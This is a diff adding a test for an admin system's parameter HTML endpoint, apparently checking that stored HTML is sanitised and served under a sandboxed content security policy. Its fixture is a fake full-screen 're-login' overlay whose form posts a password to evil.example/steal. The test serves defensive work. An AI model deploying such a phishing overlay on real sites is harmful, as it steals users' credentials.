@@ -209,6 +209,46 @@ describe.each(testTargets())('sys/param on $name', (target) => {
       expectHarmless(plain.raw);
     });
 
+    it('keeps no overlay: styles from an allow-list, no class, images only from our storage, a sandbox', async () => {
+      const overlay = [
+        '<div class="ant-modal-mask" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">',
+        '<h2 style="color:#1677ff;text-align:center;position:absolute;transform:scale(2)">请重新登录</h2>',
+        '<form action="https://evil.example/steal"><input name="password"></form>',
+        '<img src="https://evil.example/login.png" alt="far">',
+        '<img src="//evil.example/relative.png" alt="protocol-relative">',
+        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">',
+        '<img src="/upload/20261120/0f8fad5b-d9cb-469f-a165-70867728950e.png" alt="ours">',
+        '<video src="https://evil.example/v.mp4" controls></video>',
+        '<p style="background-image:url(https://evil.example/bg.png);font-weight:bold;z-index:3">',
+        '<span style="color:red;font-size:16px">八折</span></p>',
+        '</div>',
+      ].join('');
+      await addParam({ keyName: 'overlayNotice', name: '仿冒登录', dataType: 1, data: overlay });
+      for (const reply of [
+        await t.get('/admin/base/open/html', { key: 'overlayNotice' }),
+        await t.get('/admin/base/sys/param/html', { key: 'overlayNotice' }, admin),
+      ]) {
+        expect(reply.status).toBe(200);
+        const html = reply.raw;
+        expect(html).not.toMatch(/position|z-index|transform|background-image|\btop:|\bwidth:100%/i);
+        expect(html).not.toMatch(/class=/i);
+        expect(html).not.toMatch(/<form|<input/i);
+        expect(html).not.toContain('evil.example');
+        expect(html).not.toContain('data:image');
+        // What is harmless stays: the allowed styles, the text, our own image.
+        expect(html).toContain('<h2 style="color:#1677ff;text-align:center">请重新登录</h2>');
+        expect(html).toContain('<p style="font-weight:bold"><span style="color:red;font-size:16px">八折</span></p>');
+        expect(html).toContain('<img src="/upload/20261120/0f8fad5b-d9cb-469f-a165-70867728950e.png" alt="ours" />');
+        const policy = String(reply.headers['content-security-policy']);
+        expect(policy).toMatch(/(^|; )sandbox( |;|$)/);
+        expect(policy).not.toMatch(/allow-scripts|allow-same-origin|allow-forms/);
+        expect(policy).toMatch(/(^|; )img-src 'self'(;|$)/);
+        expect(policy).toMatch(/(^|; )media-src 'self'(;|$)/);
+        expect(policy).toContain("default-src 'none'");
+        expect(reply.headers['x-content-type-options']).toBe('nosniff');
+      }
+    });
+
     it('sanitises what an update writes, too', async () => {
       const id = await addParam({ keyName: 'laterRich', dataType: 1, data: '<p>ok</p>' });
       dataOf(
